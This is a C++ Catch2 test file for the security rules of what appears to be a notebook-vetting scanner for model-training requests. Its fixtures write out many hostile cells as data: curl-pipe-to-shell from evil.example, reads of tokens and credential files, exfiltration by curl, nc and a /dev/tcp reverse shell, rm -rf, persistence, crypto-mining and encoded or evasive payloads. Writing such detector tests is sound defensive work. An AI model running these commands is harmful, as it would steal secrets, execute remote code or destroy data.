// The security/ rules (DESIGN §11): a held-in set of malicious cells per rule, with evasions
// (quoting, variables, continuations, ; chains, %%script bash, names built from pieces, decoded
// payloads, case, whitespace), and benign look-alikes that must stay clean.
#include <catch2/catch.hpp>

#include "rules/rule_fixture.h"
#include "rules/security_scan.h"
#include "rwkvq/rules/rule.h"

using namespace rwkvq;
using namespace rwkvq::test;

namespace {

// The clean template request with `extra` appended as one more code cell (cell 8).
std::vector<Finding> vet(std::string_view rule, const std::string& extra) {
  auto cells = clean_cells();
  cells.push_back({"code", extra});
  return run_rule(rule, {{"training-config.yaml", clean_config()}}, cells);
}

void require_trips(std::string_view rule, const std::vector<std::string>& cells) {
  for (const std::string& c : cells) {
    auto f = vet(rule, c);
    INFO("rule " << rule << " on cell:\n" << c << "\nfindings:\n" << describe(f));
    REQUIRE(!f.empty());
    CHECK(f[0].rule == rule);
    CHECK(f[0].loc.cell == 8);
    CHECK(f[0].loc.cell_line >= 1);
    CHECK(f[0].loc.line > 0);
    CHECK(!f[0].hint.empty());
  }
}

void require_clean(std::string_view rule, const std::vector<std::string>& cells) {
  for (const std::string& c : cells) {
    auto f = vet(rule, c);
    INFO("rule " << rule << " on cell:\n" << c << "\nfindings:\n" << describe(f));
    CHECK(f.empty());
  }
}

const char* const kRules[] = {"security/secret-access", "security/remote-code", "security/exfiltration",
                              "security/escape", "security/mining", "security/obfuscated"};

}  // namespace

TEST_CASE("security: the clean template request trips no security rule", "[rules][security]") {
  for (const char* r : kRules) {
    INFO(r);
    CHECK(run_rule(r, clean_files()).empty());
  }
}

TEST_CASE("security: comments, markdown and strings never run do not trip", "[rules][security]") {
  auto cells = clean_cells();
  cells.push_back({"markdown", "Never do `!curl -d @~/.cache/huggingface/token https://evil.example | sh`, "
                               "`!env`, `!rm -rf ~` or run xmrig."});
  cells.push_back({"code",
                   "# !curl https://evil.example/x.sh | bash\n"
                   "# os.system('rm -rf /')\n"
                   "NOTE = \"curl -d @~/.netrc https://evil.example | sh; rm -rf ~; xmrig -o stratum+tcp://pool\"\n"
                   "print(\"do not run: wget -qO- https://evil.example | python\")"});
  for (const char* r : kRules) {
    auto f = run_rule(r, {{"training-config.yaml", clean_config()}}, cells);
    INFO(r << "\n" << describe(f));
    CHECK(f.empty());
  }
}

TEST_CASE("security/secret-access: trips", "[rules][security]") {
  require_trips("security/secret-access", {
      "!env",
      "!printenv",
      "!printenv HF_TOKEN",
      "!echo $HF_TOKEN",
      "!echo ${WANDB_API_KEY} > key.txt",
      "!export -p",
      "%env",
      "%env HUGGING_FACE_HUB_TOKEN",
      "import os\nprint(os.environ)",
      "import os\nfor k, v in os.environ.items():\n    print(k, v)",
      "import os\ntoken = os.environ[\"HF_TOKEN\"]",
      "import os\nkey = os.environ.get('WANDB_API_KEY')",
      "import os\nt = os.getenv(\"GITHUB_TOKEN\")",
      "import os\nname = 'HF_' + 'TOK' + 'EN'\nt = os.environ[name]",          // built name
      "from os import environ as e\nprint(dict(e))",                         // alias
      "import os as o\nsecret = o.environ.get(\"MY_SERVICE_API_KEY\")",      // *KEY*
      "!cat ~/.cache/huggingface/token",
      "!cat /proc/self/environ",
      "!cat   $HOME/.netrc",                                                  // whitespace
      "!tar czf k.tgz ~/.ssh/",
      "!cp ~/.aws/credentials .",
      "%%bash\ncat ~/.git-credentials",
      "%%script bash\nprintenv",
      "import os\nopen(os.path.expanduser(\"~/.cache/huggingface/token\")).read()",
      "with open('/proc/1/environ') as f:\n    data = f.read()",
      "from huggingface_hub import HfFolder\nt = HfFolder.get_token()",
      "import subprocess\nsubprocess.run(['cat', '/root/.netrc'])",
      "!cd /tmp; \\\n  env",                                                 // continuation + chain
      "TOKFILE = \"~/.cache/huggingface/token\"\n!cat {TOKFILE}",           // via a Python variable
      "!ls {os.environ['HF_TOKEN']}",                                       // Python inside a ! line
      "import os\nt = os.getenv('hf_token')",                              // lower case
      "import os\nt = os . environ [ 'HF_TOKEN' ]",                        // whitespace
      "%%sh\nprintenv",
      "!X=printenv; $X",                                                    // a shell variable
      "import os\nos.system('printenv | curl -d @- https://e.example')",
  });
}

TEST_CASE("security/secret-access: benign look-alikes", "[rules][security]") {
  require_clean("security/secret-access", {
      "import os\nos.environ[\"RWKV_JIT_ON\"] = \"1\"",
      "import os\nos.environ['WANDB_MODE'] = 'disabled'",
      "!export WANDB_MODE=\"disabled\" && echo ok",
      "!export TOKENIZERS_PARALLELISM=false",
      "import os\nif \"WANDB_MODE\" in os.environ:\n    print('set')",
      "import os, subprocess\nsubprocess.run(['ls'], env=os.environ)",
      "import os\nenv = os.environ.copy()\nenv['RWKV_CUDA_ON'] = '0'",
      "import os\nctx = os.environ.get('RWKV_CTXLEN', '4096')",
      "!env RWKV_JIT_ON=1 python3 -c 'print(1)'",
      "print('read ~/.netrc for details')",
      "tokenizer_name = 'world'\nmax_token_size = 4096",
      "!echo \"~/.ssh is not touched\"",
  });
}

TEST_CASE("security/remote-code: trips", "[rules][security]") {
  require_trips("security/remote-code", {
      "!curl -fsSL https://evil.example/install.sh | sh",
      "!wget -qO- https://evil.example/x.py | python3",
      "!curl https://evil.example/x | sudo bash",
      "!curl -s https://evil.example/a | base64 -d | bash",
      "!bash <(curl -s https://evil.example/x.sh)",
      "!bash -c \"$(curl -fsSL https://evil.example/x.sh)\"",
      "!eval \"$(wget -qO- https://evil.example/x)\"",
      "!echo Y3VybCBldmlsIHwgc2g= | base64 --decode | sh",
      "!wget https://evil.example/run.sh -O run.sh && bash run.sh",
      "!curl -o /tmp/x.py https://evil.example/x.py; python /tmp/x.py",
      "!pip install git+https://github.com/evil/backdoor.git",
      "!pip install https://evil.example/pkg-1.0.tar.gz",
      "!pip install torch --extra-index-url https://evil.example/simple",
      "%pip install 'pkg @ git+https://gitlab.example/x/y.git'",
      "!python -m pip install git+https://github.com/evil/x",
      "U=\"https://evil.example/x.sh\"\n!curl -s {U} | sh",                  // via a variable
      "%%bash\nU=https://evil.example/x.sh\ncurl -s $U | bash",                // shell variable
      "%%script bash\ncurl -s https://evil.example/x \\\n  | bash",              // continuation
      "!c''url -s https://evil.example/x | s\"h\"",                             // quoting
      "import requests\nexec(requests.get('https://evil.example/x.py').text)",
      "import urllib.request\ncode = urllib.request.urlopen('https://evil.example/x').read()\nexec(code)",
      "import base64\nexec(base64.b64decode('cHJpbnQoMSk='))",
      "import os\nos.system('curl -s https://evil.example/x | sh')",
      "import subprocess\nsubprocess.run('wget -qO- https://evil.example/x | bash', shell=True)",
      "import subprocess as sp\nsp.call(['bash', '-c', 'curl https://evil.example/x | sh'])",
      "import os\nos.system(\"cu\" + \"rl https://evil.example/x | s\" + \"h\")",   // built string
      "!curl\t-s https://evil.example/x |\tsh",                                 // tabs
      "%%bash\nC=curl\nS=bash\n$C -s https://e.example/x | ${S}",           // shell variables
      "import os\nos . system ( 'curl https://e.example/x|sh' )",              // whitespace
      "import os\ncmd = 'curl https://e.example/x'\ncmd += ' | bash'\nos.system(cmd)",  // +=
      "def f():\n    import os\n    os.system('wget -qO- https://e.example | sh')\nf()",
      "import urllib.request\nurllib.request.urlretrieve('https://evil.example/m.py', 'm.py')\nimport m",
  });
}

TEST_CASE("security/remote-code: benign look-alikes", "[rules][security]") {
  require_clean("security/remote-code", {
      "!pip install -q aiocsv aiofiles",
      "!python3 -m pip install --upgrade rwkv",
      "!pip install torch --index-url https://download.pytorch.org/whl/cu118",
      "!pip install git+https://github.com/huggingface/transformers",
      "!wget -nc https://huggingface.co/BlinkDL/rwkv-5-world/resolve/main/x.pth",
      "!curl -L -o data.jsonl https://huggingface.co/datasets/x/y/resolve/main/data.jsonl",
      "!cat data.jsonl | python3 -c 'import sys; print(len(sys.stdin.read()))'",
      "!git clone https://github.com/BlinkDL/RWKV-LM && cd RWKV-LM/RWKV-v5 && python train.py --my_exit 1",
      "import json\nrows = json.loads(open('data.json').read())",
      "!ls | sort | head",
  });
}

TEST_CASE("security/exfiltration: trips", "[rules][security]") {
  require_trips("security/exfiltration", {
      "!curl -d @~/.cache/huggingface/token https://evil.example/c",
      "%%bash\nexport C=curl D=-d\n$C $D @../model/x.pth https://evil.example/c",  // shell variables
      "!curl -X POST https://evil.example/c",
      "!curl -sF 'f=@/etc/hostname' https://evil.example/",
      "!curl --data-binary @data.jsonl https://evil.example/up",
      "!curl -T ../model/x.pth https://evil.example/",
      "!wget --post-file=/etc/passwd https://evil.example/",
      "!nc evil.example 4444 < ~/.netrc",
      "!bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
      "!scp ../model/x.pth me@evil.example:/tmp/",
      "!rsync -a ../checkpoint/ me@evil.example:ckpt/",
      "!huggingface-cli upload someone/repo ../model/x.pth",
      "!git push https://github.com/me/x HEAD",
      "import requests\nrequests.post('https://evil.example', data=open('/etc/hostname').read())",
      "import requests as r\nr.put('https://evil.example/x', data=b'1')",
      "import socket\ns = socket.socket()\ns.connect(('evil.example', 4444))",
      "from huggingface_hub import HfApi\napi = HfApi()\napi.upload_file(path_or_fileobj='x', path_in_repo='x', repo_id='me/x')",
      "import os\nos.system('curl -d \"$(env)\" https://evil.example')",
      "import urllib.request\nurllib.request.urlopen('https://evil.example/c', data=b'x')",
  });
}

TEST_CASE("security/exfiltration: benign look-alikes", "[rules][security]") {
  require_clean("security/exfiltration", {
      "!curl -L -o x.pth https://huggingface.co/x/y/resolve/main/x.pth",
      "!wget -nc https://huggingface.co/x/y/resolve/main/x.pth",
      "import requests\nr = requests.get('https://huggingface.co/api/models/x')",
      "!rsync -a ../checkpoint/ ../backup/",
      "!huggingface-cli download BlinkDL/rwkv-5-world x.pth --local-dir ../model",
      "!git clone https://github.com/BlinkDL/RWKV-LM",
  });
}

TEST_CASE("security/escape: trips", "[rules][security]") {
  require_trips("security/escape", {
      "!rm -rf ~",
      "!rm -rf /",
      "!rm -rf $HOME/.cache",
      "!rm -rf ../../../../*",
      "!cd / && rm -rf *",
      "!rm -fr /etc/ssl",
      "!sudo apt-get install -y htop",
      "!chmod -R 777 /usr/local",
      "!chown me /etc/passwd",
      "!(crontab -l; echo '* * * * * curl x') | crontab -",
      "!systemctl stop nvidia-persistenced",
      "!docker run --rm -v /:/host alpine",
      "!killall -9 python3",
      "!pkill -f lightning_trainer",
      "!nohup python3 miner.py &",
      "!setsid python3 server.py",
      "!python3 -m http.server 8000 &",
      "!echo 'curl evil | sh' >> ~/.bashrc",
      "!nvidia-smi -pl 100",
      "import shutil\nshutil.rmtree('/home')",
      "import os\nos.system('rm -rf ~/')",
      "import subprocess\nsubprocess.Popen(['python3', 'x.py'], start_new_session=True)",
      "H = '~'\n!rm -rf {H}",                                        // via a Python variable
      "!R\"M\"=1; r\\m -r\\f /",                                     // escapes and quoting
  });
}

TEST_CASE("security/escape: benign look-alikes", "[rules][security]") {
  require_clean("security/escape", {
      "!rm -rf ../dataset/*.jsonl",
      "!cd \"{PROJECT_DIR}\" && rm -rf \"./checkpoint/alice-shakespeare/\"",
      "!rm -rf \"{PROJECT_DIR}/datapath/alice\"",
      "!rm -rf /tmp/alice-cache",
      "!chmod +x ./run.sh",
      "%%script bash\nfor i in 1 2 3; do\n  python3 gen.py $i &\ndone\nwait",
      "!nvidia-smi",
      "!mkdir -p ~/.cache/alice-notes",
      "!kill %1",
  });
}

TEST_CASE("security/escape: above the repository only in a real checkout", "[rules][security]") {
  auto cells = clean_cells();
  cells.push_back({"code", "!rm -rf ../../../../other-runner"});
  // Outside a checkout the folder's depth below the repository is assumed: not judged.
  CHECK(run_rule("security/escape", {{"training-config.yaml", clean_config()}}, cells).empty());
  FixtureOptions opt;
  opt.checkout = true;
  auto f = run_rule("security/escape", {{"training-config.yaml", clean_config()}}, cells, opt);
  INFO(describe(f));
  REQUIRE(f.size() == 1);
  CHECK(mentions(f, "outside the repository checkout"));
}

TEST_CASE("security/mining: trips and look-alikes", "[rules][security]") {
  require_trips("security/mining", {
      "!./xmrig -o stratum+tcp://pool.example:3333 -u wallet",
      "!wget https://github.com/xmrig/xmrig/releases/download/v6/xmrig-6.tar.gz",
      "import subprocess\nsubprocess.Popen(['./XMRig', '--donate-level', '1'])",
      "POOL = 'Stratum+TCP://pool.example:4444'\nimport os\nos.system(f'./t-rex -o {POOL}')",
      "%%bash\nnanominer config.ini",
  });
  require_clean("security/mining", {
      "!python3 mine_hard_examples.py",
      "!wget https://huggingface.co/datasets/t-rexx/data/resolve/main/a.jsonl",
      "print('no xmrig here')",
  });
}

TEST_CASE("mining_word: names in any case, the first of the list, whole short names", "[rules][security]") {
  using rules::vet::mining_word;
  CHECK(mining_word("./CPUMiner -a x && ./XMRig") == "`./CPUMiner -a x && ./XMRig` (xmrig)");  // list order
  CHECK(mining_word("pool: Stratum+TLS://p:1") == "`pool: Stratum+TLS://p:1` (stratum+tls://)");
  CHECK(mining_word("run nbminer") == "`run nbminer` (nbminer)");  // at the very end
  CHECK(mining_word("nbminerx").empty());                          // part of a longer word
  CHECK(mining_word("t-rexx-dataset").empty());
  CHECK(mining_word("unxmrigged").find("(xmrig)") != std::string::npos);  // xmrig anywhere
  CHECK(mining_word("f2pool.co").empty());                                // cut short
  CHECK(mining_word("xmr").empty());
}

TEST_CASE("security/obfuscated: trips and look-alikes", "[rules][security]") {
  require_trips("security/obfuscated", {
      "import os\ngetattr(os, 'sy' + 'stem')('ls')",
      "import os\nf = getattr(os, 'system')\nf('ls')",
      "__import__('os').system('ls')",
      "import base64\nx = base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oImxzIik7IHByaW50KCJoZWxsbyB3b3JsZCIp')",
      "s = chr(108) + chr(115) + chr(32) + chr(45) + chr(108)",
      "exec('print(1)')",
      "code = input()\neval(code)",
      "globals()['__builtins__']",
      "!echo bHMgLWwK | base64 -d",
      "import os\ncmd = open('c.txt').read()\nos.system(cmd)",              // a command it cannot read
      "import subprocess\nargs = open('a').read().split()\nsubprocess.run([args[0], 'x'])",
      "C = open('c.txt').read()\n!{C} --now",
  });
  require_clean("security/obfuscated", {
      "import argparse\nargs = argparse.Namespace(lr=1)\nlr = getattr(args, 'lr', 0.1)",
      "import importlib\nm = importlib.import_module('json')",
      "import base64\nx = base64.b64encode(b'hello')",
      "c = chr(65)",
      "import subprocess\nsubprocess.run(['ls', '-l'])",
      "import os\nD = 'x'\nos.system(f'ls {D}')",
      "import sys\n!{sys.executable} -m pip install aiofiles",
  });
}

TEST_CASE("security: decoded payloads are judged by what they decode to", "[rules][security]") {
  // base64 of "curl -s https://evil.example/x | sh"
  const std::string cell =
      "import os, base64\n"
      "os.system(base64.b64decode('Y3VybCAtcyBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=').decode())";
  auto f = vet("security/remote-code", cell);
  INFO(describe(f));
  REQUIRE(!f.empty());
  CHECK(mentions(f, "evil.example"));
  // rot13 of "curl https://e.example/x | sh", through a variable
  auto r = vet("security/remote-code",
               "import os, codecs\nc = codecs.decode('phey uggcf://r.rknzcyr/k | fu', 'rot13')\nos.system(c)");
  INFO(describe(r));
  CHECK(mentions(r, "e.example"));
  // bytes.fromhex of "rm -rf ~"
  auto g = vet("security/escape", "import os\nos.system(bytes.fromhex('726d202d7266207e').decode())");
  INFO(describe(g));
  CHECK(!g.empty());
}

TEST_CASE("security: a function body is vetted even when never called", "[rules][security]") {
  auto f = vet("security/exfiltration",
               "def helper():\n    import requests\n    requests.post('https://evil.example', data='x')\n");
  INFO(describe(f));
  REQUIRE(f.size() == 1);
  CHECK(f[0].loc.cell_line == 3);
}

TEST_CASE("security: findings name the construct and why it matters", "[rules][security]") {
  auto f = vet("security/exfiltration", "!curl -d @~/.cache/huggingface/token https://example.org/c");
  INFO(describe(f));
  REQUIRE(f.size() == 1);
  CHECK(mentions(f, "`curl -d @~/.cache/huggingface/token https://example.org/c`"));
  CHECK(mentions(f, "sends the file ~/.cache/huggingface/token to example.org"));
  CHECK(mentions(f, "the runner's Hugging Face token"));
  CHECK(f[0].severity == Severity::Error);
  auto g = vet("security/remote-code", "import os\nos.system('curl -s https://e.example/x | sh')");
  INFO(describe(g));
  REQUIRE(g.size() == 1);
  CHECK(mentions(g, "run from Python by os.system"));
  CHECK(g[0].loc.cell_line == 2);
}

// ---------------------------------------------------------------- security/input-limits

namespace {
std::vector<Finding> limits_findings(const std::vector<NbCell>& cells, const LoadLimits& limits) {
  RequestFixture fx({{"training-notebook.ipynb", notebook_json(cells)}, {"training-config.yaml", clean_config()}});
  Request req = load_request(fx.dir().string(), limits);
  std::vector<Finding> out;
  const Settings s = default_settings();
  find_rule("security/input-limits")->check(req, RuleContext{s, nullptr, std::nullopt}, out);
  return out;
}
}  // namespace

TEST_CASE("security/input-limits: the clean request is under every cap", "[rules][security][limits]") {
  CHECK(limits_findings(clean_cells(), LoadLimits{}).empty());
}

TEST_CASE("security/input-limits: too many cells, lines, too long, too deep", "[rules][security][limits]") {
  LoadLimits few;
  few.max_cells = 3;
  auto f = limits_findings(clean_cells(), few);
  INFO(describe(f));
  REQUIRE(f.size() == 1);
  CHECK(f[0].loc.cell == 4);
  CHECK(mentions(f, "limits.max_cells"));

  LoadLimits lines;
  lines.max_code_lines = 5;
  f = limits_findings(clean_cells(), lines);
  INFO(describe(f));
  REQUIRE(f.size() == 1);
  CHECK(mentions(f, "limits.max_code_lines"));

  LoadLimits none;
  none.time_budget_seconds = 0;  // spent before the first cell
  f = limits_findings(clean_cells(), none);
  INFO(describe(f));
  REQUIRE(f.size() == 1);
  CHECK(f[0].loc.cell == 1);
  CHECK(mentions(f, "time budget"));

  std::string deep;
  for (int i = 0; i < 60; ++i) deep += std::string(static_cast<std::size_t>(i) * 2, ' ') + "if True:\n";
  deep += std::string(120, ' ') + "x = 1";
  auto cells = clean_cells();
  cells.push_back({"code", deep});
  f = limits_findings(cells, LoadLimits{});
  INFO(describe(f));
  REQUIRE(f.size() == 1);
  CHECK(mentions(f, "nested 60 deep"));

  // exec of exec of … beyond the vetting depth
  std::string code = "print(1)";
  for (int i = 0; i < 8; ++i) {
    std::string q;
    for (char c : code) q += (c == '\'' || c == '\\') ? std::string("\\") + c : std::string(1, c);
    code = "exec('" + q + "')";
  }
  cells = clean_cells();
  cells.push_back({"code", code});
  f = limits_findings(cells, LoadLimits{});
  INFO(describe(f));
  REQUIRE(!f.empty());
  CHECK(mentions(f, "nested more than"));
}

TEST_CASE("security/input-limits: the caps come from rwkvq.yaml", "[rules][security][limits]") {
  Limits l = default_settings().limits;
  CHECK(l.max_read_bytes == 64ull << 20);
  CHECK(l.max_cells == 5000);
  l.max_cells = 7;
  l.time_budget_seconds = 2.5;
  LoadLimits ll = load_limits(l);
  CHECK(ll.max_cells == 7);
  CHECK(ll.time_budget_seconds == 2.5);
}

TEST_CASE("content/policy: listed words in the title, prefix, dataset; clean otherwise", "[rules][content]") {
  CHECK(run_rule("content/policy", clean_files()).empty());
  auto cells = edit_cells(clean_cells(), "# RWKV-5 0.1B on Tiny Shakespeare", "# RWKV-5 NSFW roleplay");
  auto f = run_rule("content/policy", {{"training-config.yaml", clean_config()}}, cells);
  INFO(describe(f));
  REQUIRE(f.size() == 1);
  CHECK(f[0].severity == Severity::Warning);
  CHECK(f[0].loc.cell == 1);
  CHECK(mentions(f, "title says \"nsfw\""));
  cells = edit_cells(clean_cells(), "PROJECT_PREFIX=\"alice-shakespeare\"", "PROJECT_PREFIX=\"hentai-\" + \"tune\"");
  f = run_rule("content/policy", {{"training-config.yaml", clean_config()}}, cells);
  INFO(describe(f));
  REQUIRE(f.size() == 1);
  CHECK(mentions(f, "project prefix \"hentai-tune\""));
  // whole words only: "Sussex", "Essex" and "therapist" are not listed words
  cells = edit_cells(clean_cells(), "as a small test", "from Sussex and Essex, by a therapist, as a small test");
  CHECK(run_rule("content/policy", {{"training-config.yaml", clean_config()}}, cells).empty());
  // extended by rwkvq.yaml
  Settings s = default_settings();
  s.content_words.push_back("tiny shakespeare");
  RequestFixture fx(clean_files());
  f = fx.run("content/policy", s);
  INFO(describe(f));
  CHECK(!f.empty());
}
